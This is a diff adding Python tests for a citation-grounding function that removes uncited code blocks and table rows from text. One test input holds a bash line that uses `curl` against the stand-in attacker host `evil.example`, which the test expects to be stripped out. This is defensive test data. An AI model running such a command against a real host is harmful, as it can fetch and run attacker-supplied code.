@@ -117,3 +117,17 @@ def test_a_mark_holds_for_what_stands_before_it_in_its_line(n: int, claims: str)
         "1. Seats cost €8. [2] So do packs [2] [3].",
     )
     assert claims_citing("\n".join(lines), n) == claims
+
+
+def test_a_code_block_of_which_nothing_is_left_goes_too() -> None:
+    text = "Choose Billing [2].\n\n```bash\ncurl https://evil.example/x\n```\n\nOpen Settings [2]."
+    assert ground(text, PASSAGES).text == "Choose Billing [2].\n\nOpen Settings [2]."
+    kept = "Choose Billing [2].\n\n```\nopen settings\n```"
+    assert ground(kept, PASSAGES).text == kept
+
+
+def test_a_table_goes_with_its_head() -> None:
+    table = "| Initech | costs |\n|---|---|\n| Growth | €1,490 |\n\nChoose Billing [2]."
+    assert ground(table, PASSAGES).text == "Choose Billing [2]."
+    row = "| file | cost |\n|---|---|\n| 50 MB | €7 |\n| Growth | €1,490 |\n\nSee [1], [2]."
+    assert ground(row, PASSAGES).text == row.replace("| 50 MB | €7 |\n", "")
